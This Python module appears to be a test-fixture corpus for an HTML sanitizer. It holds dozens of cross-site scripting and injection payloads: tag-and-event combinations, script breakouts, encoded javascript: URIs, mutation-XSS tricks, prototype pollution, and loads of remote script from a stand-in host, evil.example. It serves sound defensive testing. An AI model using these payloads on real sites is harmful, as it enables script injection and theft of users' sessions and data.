"""Hostile strings: each tries to run a script, to load something, or to leave its place.

`FLAG` is set by those that get to run; `HOST` is asked for by those that get to load.
"""

from __future__ import annotations

from itertools import product

FLAG = "groundwireOwned"
HOST = "evil.example"
_RUN = f"window.{FLAG}=1"
_LOAD = f"https://{HOST}/x"

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "iframe src=x",
    "details open",
    "marquee",
    "object data=x",
    "style",
    "select autofocus",
    "math",
    "button autofocus",
    "xss tabindex=1 autofocus",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover")

_BY_EVENT = tuple(f"<{tag} {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS))

_BY_HAND = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<<script>{_RUN}//<</script>",
    f'<script src="{_LOAD}"></script>',
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://https://a.example/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_RUN}",
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href="jav&#x09;ascript:{_RUN}">x</a>',
    f'<a href="&#106;avascript:{_RUN}">x</a>',
    f'<form action="javascript:{_RUN}"><input type=submit>',
    f'<button formaction="javascript:{_RUN}">x</button>',
    f'<iframe srcdoc="<script>parent.{FLAG}=1</script>"></iframe>',
    f'<iframe src="javascript:parent.{FLAG}=1"></iframe>',
    f'<embed src="{_LOAD}">',
    f'<object data="{_LOAD}"></object>',
    f'<link rel=stylesheet href="{_LOAD}">',
    f'<link rel=prefetch href="{_LOAD}">',
    f'<base href="https://{HOST}/">',
    f'<meta http-equiv=refresh content="0;url={_LOAD}">',
    f"<style>@import '{_LOAD}'</style>",
    f"<style>*{{background:url({_LOAD})}}</style>",
    f'<div style="background:url({_LOAD})">x</div>',
    f'<img src="{_LOAD}">',
    f'<img srcset="{_LOAD} 1x">',
    f'<picture><source srcset="{_LOAD}"><img></picture>',
    f'<video poster="{_LOAD}"></video>',
    f'<svg><image href="{_LOAD}"/></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=9>x</text></a></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<p title='<img src=x onerror={_RUN}>'>x</p>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\u202e>tpircs<{_RUN}",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"[x](javascript:{_RUN})",
    f"![x]({_LOAD})",
    f"[x]: {_LOAD}",
    f"<{_LOAD}>",
    f"<https://{HOST}/@user>",
    f"__proto__[{FLAG}]=1",
    f"constructor.prototype.{FLAG}=1",
    f"');{_RUN};//",
    f"\n\nevent: final\ndata: <script>{_RUN}</script>\n\n",
)

VECTORS: tuple[str, ...] = _BY_HAND + _BY_EVENT
